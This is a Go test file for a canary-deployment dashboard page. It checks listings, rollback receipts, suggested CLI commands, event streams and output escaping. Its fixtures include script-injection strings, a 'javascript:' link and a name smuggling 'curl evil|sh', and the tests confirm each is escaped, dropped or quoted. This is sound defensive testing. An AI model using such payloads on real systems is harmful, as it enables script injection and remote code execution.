package page

import (
	"bufio"
	"context"
	"errors"
	"io"
	"log/slog"
	"net/http"
	"net/http/httptest"
	"regexp"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"go.uber.org/goleak"

	"github.com/canary-guardian/guardian/remediate/decision"
)

var now = time.Date(2026, 3, 2, 10, 0, 0, 0, time.UTC)

// shown is a page of two guards, one of which was rolled back for a reason that
// somebody else has worded.
func shown() Options {
	at := func(minutes int) time.Time { return now.Add(time.Duration(-minutes) * time.Minute) }
	bad := decision.Record{
		Lock:   &decision.Lock{Kind: decision.LockBuild, Since: at(10), By: "alert", Reason: `7% of requests fail <script>alert(1)</script> & "more"`},
		Status: decision.Status{State: decision.StateRolledBack, Since: at(10), Build: "b1-0123456789ab"},
		History: []decision.HistoryEntry{
			{At: at(30), Event: decision.EventShifted, From: 0, To: 10, Reason: "canary went from 0% to 10%"},
			{At: at(20), Event: decision.EventShifted, From: 10, To: 30, By: "ci", Reason: "canary went from 10% to 30%"},
			{At: at(10), Event: decision.EventRolledBack, From: 30, To: 0, Reason: `7% of requests fail <script>alert(1)</script>`},
		},
	}
	good := decision.Record{Status: decision.Status{State: decision.StateShifting, Since: at(5), Weight: 30, Reason: "canary has 30%"}}
	records := map[string]*decision.Record{"orders": &bad, "payments": &good}
	return Options{
		Namespace: "shop", Version: "v1.2.3", Hosts: []string{"example.com"}, Domain: "cluster.local", Logger: slog.New(slog.DiscardHandler), Now: func() time.Time { return now },
		Guards: func() []Guard {
			return []Guard{{Name: "new"}, {Name: "payments", Status: good.Status, Seen: true}, {Name: "orders", Status: bad.Status, Lock: bad.Lock, Seen: true}}
		},
		Record: func(_ context.Context, guard string) (*decision.Record, error) { return records[guard], nil },
		Facts: func(guard string, r decision.Record, _ time.Time) []Fact {
			return []Fact{{"State", string(r.Status.State)}, {"Lock", "on " + guard}}
		},
		Receipt: func(guard string, r decision.Record) *Receipt {
			if r.Lock == nil {
				return nil
			}
			return &Receipt{Title: "Rollback of shop/" + guard, Next: "The canary stays at 0%.", Command: "guardian gate " + guard + " -n shop --wait-unlocked",
				Sections: []Section{{"What failed", []Fact{{"Why", r.Lock.Reason}, {"Weight", "30% → 0%"}}}, {"What ran", []Fact{{"Differs from stable", "image: a → b"}, {"", "image: c → d"}}}},
				Links:    []decision.Link{{Name: "Grafana", URL: "https://grafana.example/d/x?a=b&c=\"d"}, {Name: "Trap", URL: "javascript:alert(1)"}}}
		},
		Next: func(s decision.Status, _ time.Time) string {
			if s.State == decision.StateShifting {
				return "50%, due in 2 minutes"
			}
			return ""
		},
	}
}

func get(t *testing.T, p *Page, path string) (int, string) {
	t.Helper()
	w := httptest.NewRecorder()
	p.ServeHTTP(w, httptest.NewRequest(http.MethodGet, path, nil))
	if policy := w.Header().Get("Content-Security-Policy"); !strings.Contains(policy, "default-src 'none'") || strings.Contains(policy, "unsafe") {
		t.Errorf("%s: policy %q", path, policy)
	}
	return w.Code, w.Body.String()
}

// inOrder fails unless a text has all of these, one after the other.
func inOrder(t *testing.T, text string, wanted ...string) {
	t.Helper()
	rest := text
	for _, w := range wanted {
		_, after, found := strings.Cut(rest, w)
		if !found {
			t.Fatalf("no %q after the others in\n%s", w, text)
		}
		rest = after
	}
}

func TestAllGuardsAreShownThoseInTroubleFirst(t *testing.T) {
	code, body := get(t, New(shown()), "/")
	if code != http.StatusOK {
		t.Fatal(code)
	}
	inOrder(t, body, "Guards in shop", `href="/guards/orders"`, "rolled-back", "0%", "10 min", "7% of requests fail",
		`href="/guards/payments"`, "shifting", "30%", "5 min", "canary has 30%", "Next: 50%, due in 2 minutes", `href="/guards/new"`, "not looked at yet", "–", "v1.2.3")
}

func TestAGuardThatCannotBeLookedAfterComesFirstWithTheReason(t *testing.T) {
	o := shown()
	guards := o.Guards
	o.Guards = func() []Guard {
		all := guards()
		all[1].Failing = "namespace shop is being deleted"
		return all
	}
	_, body := get(t, New(o), "/")
	inOrder(t, body, `href="/guards/payments"`, "shifting", "The last look at it failed: namespace shop is being deleted. Shown is where it stood before.", `href="/guards/orders"`)
}

func TestOneGuardIsShownWithItsWeightsItsHistoryAndWhatToType(t *testing.T) {
	p := New(shown())
	code, body := get(t, p, "/guards/orders")
	if code != http.StatusOK {
		t.Fatal(code)
	}
	inOrder(t, body, "orders", "rolled-back", "<dt>Lock</dt><dd>on orders</dd>",
		`aria-label="The canary has 0% of the traffic. Before: 09:30:00 10%, 09:40:00 30%, 09:50:00 0%."`,
		`points="0,136 0,136 0,123 240,123 240,97 480,97 480,136 720,136"`, `<circle cx="480" cy="136"`,
		"guardian unlock orders -n shop --reason &#39;…&#39;", "guardian pause orders -n shop",
		`<h2 id="receipt">Last rollback</h2>`, "Rollback of shop/orders", "<h3>What failed</h3>", "<dt>Why</dt><dd>7% of requests fail &lt;script&gt;", "<dt>Differs from stable</dt><dd>image: a → b</dd>\n<dd>image: c → d</dd>",
		`<a id="link-grafana" href="https://grafana.example/d/x?a=b&amp;c=&#34;d" rel="noreferrer">Grafana</a>`, "The canary stays at 0%.", "guardian gate orders -n shop --wait-unlocked",
		"2026-03-02T09:50:00Z", "rolled-back", "30% → 0%", "2026-03-02T09:40:00Z", "ci", "2026-03-02T09:30:00Z")
	if strings.Contains(body, "guardian rollback orders") {
		t.Error("a rollback is offered for a canary that has nothing")
	}
	if strings.Contains(body, "javascript:") || strings.Contains(body, "Trap") {
		t.Error("a link leads to no web page")
	}
	_, body = get(t, p, "/guards/payments")
	if strings.Contains(body, "Last rollback") {
		t.Error("a receipt of no rollback")
	}
	inOrder(t, body, "guardian rollback payments -n shop", "Nothing has happened yet")
}

// What an alert says is whatever somebody wrote into a rule.
func TestNothingThatIsShownIsTakenForMarkup(t *testing.T) {
	p := New(shown())
	for _, path := range []string{"/", "/guards/orders", "/guards/%3Cscript%3Ealert(1)%3C%2Fscript%3E"} {
		if _, body := get(t, p, path); strings.Contains(body, "<script>alert") {
			t.Errorf("%s:\n%s", path, body)
		}
	}
}

func TestWhatCannotBeShownIsSaid(t *testing.T) {
	o := shown()
	code, body := get(t, New(o), "/guards/nobody")
	if code != http.StatusNotFound || !strings.Contains(body, "no guard of this name in shop") {
		t.Errorf("%d %s", code, body)
	}
	code, body = get(t, New(o), "/guards/new")
	if code != http.StatusServiceUnavailable || !strings.Contains(body, "nothing has been recorded") {
		t.Errorf("%d %s", code, body)
	}
	o.Record = func(context.Context, string) (*decision.Record, error) {
		return nil, errors.New("dial tcp 10.0.0.1: token abc")
	}
	code, body = get(t, New(o), "/guards/orders")
	if code != http.StatusServiceUnavailable || !strings.Contains(body, "guardian&#39;s log says why") || strings.Contains(body, "10.0.0.1") {
		t.Errorf("%d %s", code, body)
	}
	w := httptest.NewRecorder()
	New(o).ServeHTTP(w, httptest.NewRequest(http.MethodPost, "/guards/orders", nil))
	if w.Code != http.StatusMethodNotAllowed {
		t.Errorf("POST: %d", w.Code)
	}
}

// However many look at a guard, the API server is asked as rarely as for one.
func TestWhoLooksAtOneGuardAtOnceSharesItsRecord(t *testing.T) {
	o, reads := shown(), atomic.Int32{}
	record := o.Record
	o.Record = func(ctx context.Context, guard string) (*decision.Record, error) {
		reads.Add(1)
		return record(ctx, guard)
	}
	passed := time.Duration(0)
	o.Now = func() time.Time { return now.Add(passed) }
	p := New(o)
	var all sync.WaitGroup
	for range 20 {
		all.Go(func() {
			if code, _ := get(t, p, "/guards/orders"); code != http.StatusOK {
				t.Error(code)
			}
		})
	}
	all.Wait()
	if n := reads.Load(); n != 1 {
		t.Errorf("read %d times", n)
	}
	passed = reuse
	if get(t, p, "/guards/orders"); reads.Load() != 2 {
		t.Errorf("read %d times", reads.Load())
	}
}

func TestAPausedGuardIsOfferedWhatEndsThePause(t *testing.T) {
	paused := func(s decision.Status) string {
		var all []string
		for _, c := range Commands("orders", "shop", decision.Record{Status: s}) {
			all = append(all, c.Line)
		}
		return strings.Join(all, "\n")
	}
	by := paused(decision.Status{ByPersons: decision.ByPersons{Paused: &decision.Pause{By: "ann"}}})
	if !strings.Contains(by, "resume orders -n shop --reason") || strings.Contains(by, " pause ") {
		t.Error(by)
	}
	on := paused(decision.Status{ByPersons: decision.ByPersons{PausedOnVS: true}, Moves: &decision.Moves{VirtualServices: []string{"routes", "x; curl evil|sh"}}})
	if !strings.Contains(on, "virtualservice 'x; curl evil|sh' -n shop") {
		t.Error(on)
	}
	if !strings.Contains(on, "kubectl annotate virtualservice routes -n shop "+decision.AnnotationPaused+"-") || strings.Contains(on, "pause orders") {
		t.Error(on)
	}
}

// What is offered is not refused where the guard stands: docs/states.md has the table.
func TestTheCommandsAreThoseThatAreNotRefused(t *testing.T) {
	steps := decision.StepStatus{Mode: decision.PromotionAuto, NextStep: 50}
	for name, c := range map[string]struct {
		record decision.Record
		verbs  string
	}{
		"shifting":   {decision.Record{Status: decision.Status{State: decision.StateShifting, Weight: 10}}, "rollback pause disarm status"},
		"with steps": {decision.Record{Status: decision.Status{State: decision.StateShifting, Weight: 10, StepStatus: steps}}, "rollback promote pause disarm status"},
		"waits for an alert's end": {decision.Record{Status: decision.Status{State: decision.StateShifting, Weight: 10, StepStatus: decision.StepStatus{
			Mode: decision.PromotionManual, NextStep: 50, WaitingFor: decision.WaitAlert}}}, "rollback pause disarm status"},
		"idle with steps":      {decision.Record{Status: decision.Status{State: decision.StateIdle, StepStatus: steps}}, "promote pause disarm status"},
		"held with steps":      {decision.Record{Status: decision.Status{State: decision.StateHeld, Weight: 10, StepStatus: steps}}, "rollback pause disarm status"},
		"rolled back":          {decision.Record{Lock: &decision.Lock{}, Status: decision.Status{State: decision.StateRolledBack, StepStatus: steps}}, "unlock pause disarm status"},
		"disarmed":             {decision.Record{Status: decision.Status{State: decision.StateDisarmed, Weight: 10, ByPersons: decision.ByPersons{Disarmed: &decision.Disarm{}}}}, "rollback pause arm status"},
		"observing with steps": {decision.Record{Status: decision.Status{State: decision.StateShifting, Weight: 10, StepStatus: steps, Observing: &decision.Observing{}}}, "rollback pause disarm status"},
	} {
		var verbs []string
		ids := map[string]bool{}
		for _, command := range Commands("orders", "shop", c.record) {
			verbs = append(verbs, strings.Fields(command.Line)[1])
			ids[slug(command.For)] = true
			if command.Line[:len("guardian rollback")] == "guardian rollback" && (c.record.Status.Observing != nil) != strings.Contains(command.For, "mode observe") {
				t.Errorf("%s: %s for %q", name, command.Line, command.For)
			}
		}
		if got := strings.Join(verbs, " "); got != c.verbs || len(ids) != len(verbs) {
			t.Errorf("%s: %s (%d ids), want %s", name, got, len(ids), c.verbs)
		}
	}
}

// What can have the keyboard's focus has an id of its own: the page is brought up to date
// by replacing all of it, and gives the focus back to what has the same id.
func TestWhatHasTheFocusCanKeepIt(t *testing.T) {
	p := New(shown())
	for _, path := range []string{"/", "/guards/orders", "/guards/payments"} {
		_, body := get(t, p, path)
		_, main, _ := strings.Cut(body, "<main>")
		main, _, _ = strings.Cut(main, "</main>")
		seen := map[string]bool{}
		for _, tag := range regexp.MustCompile(`<(?:a|button)\b[^>]*>`).FindAllString(main, -1) {
			id := regexp.MustCompile(` id="([^"]+)"`).FindStringSubmatch(tag)
			if id == nil || seen[id[1]] {
				t.Errorf("%s: %s has no id of its own", path, tag)
				continue
			}
			seen[id[1]] = true
		}
		if len(seen) < 3 {
			t.Errorf("%s: only %d have the focus at all", path, len(seen))
		}
	}
}

func TestAStreamTellsOfChangesAndEndsWithThePage(t *testing.T) {
	defer goleak.VerifyNone(t, goleak.IgnoreCurrent())
	p := New(shown())
	server := httptest.NewServer(p)
	defer server.Close()
	answer, err := server.Client().Get(server.URL + "/events")
	if err != nil {
		t.Fatal(err)
	}
	defer func() { _ = answer.Body.Close() }()
	lines := bufio.NewScanner(answer.Body)
	until := func(want string) {
		t.Helper()
		for lines.Scan() {
			if lines.Text() == want {
				return
			}
		}
		t.Fatalf("no %q: %v", want, lines.Err())
	}
	until("retry: 2000")
	p.Changed()
	until("event: changed")
	p.Changed() // within a second: it comes after it
	until("event: changed")
	p.Close()
	p.Close()
	for lines.Scan() {
		if text := lines.Text(); text != "" && text != "data:" {
			t.Errorf("%q after the end", text)
		}
	}
	if lines.Err() != nil {
		t.Error(lines.Err())
	}
}

func TestMoreStreamsThanThereArePlacesForAreToldSo(t *testing.T) {
	p := New(shown())
	for range maxStreams {
		p.changes.places <- struct{}{}
	}
	if code, body := get(t, p, "/events"); code != http.StatusServiceUnavailable || !strings.Contains(body, "too many") {
		t.Errorf("%d %s", code, body)
	}
}

func TestWhatThePageNeedsIsServedByItself(t *testing.T) {
	server := httptest.NewServer(New(shown()))
	defer server.Close()
	for path, kind := range map[string]string{"/page.css": "text/css", "/page.js": "text/javascript"} {
		answer, err := server.Client().Get(server.URL + path)
		if err != nil {
			t.Fatal(err)
		}
		body, err := io.ReadAll(answer.Body)
		_ = answer.Body.Close()
		if err != nil || answer.StatusCode != http.StatusOK || !strings.HasPrefix(answer.Header.Get("Content-Type"), kind) || len(body) == 0 {
			t.Errorf("%s: %d %s, %d bytes, %v", path, answer.StatusCode, answer.Header.Get("Content-Type"), len(body), err)
		}
		if strings.Contains(string(body), "://") {
			t.Errorf("%s names another address", path)
		}
	}
}

func TestAChartBeginsWithTheDayOrTheHistory(t *testing.T) {
	old := decision.Record{Status: decision.Status{Weight: 50}, History: []decision.HistoryEntry{
		{At: now.Add(-48 * time.Hour), From: 0, To: 10}, {At: now.Add(-12 * time.Hour), From: 10, To: 50}, {At: now.Add(time.Hour), From: 50, To: 0},
	}}
	if c := newChart(old, now); c.Points != "0,123 360,123 360,72 720,72" || !c.From.Equal(now.Add(-chartSpan)) || len(c.Marks) > 0 {
		t.Errorf("%+v", c)
	}
	if c := newChart(decision.Record{Status: decision.Status{Weight: 100}}, now); c.Points != "0,8 720,8" || c.Says != "The canary has 100% of the traffic." {
		t.Errorf("%+v", c)
	}
	if c := newChart(decision.Record{History: []decision.HistoryEntry{{At: now}}}, now); c.Known() {
		t.Errorf("%+v", c)
	}
}
